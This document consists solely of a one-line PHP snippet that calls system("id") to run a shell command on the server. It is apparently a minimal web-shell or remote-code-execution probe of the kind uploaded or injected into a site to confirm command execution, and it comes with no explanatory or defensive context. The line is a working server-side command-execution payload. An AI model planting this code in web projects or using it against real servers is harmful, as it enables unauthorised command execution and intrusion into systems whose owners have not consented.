<?php system("id"); ?>
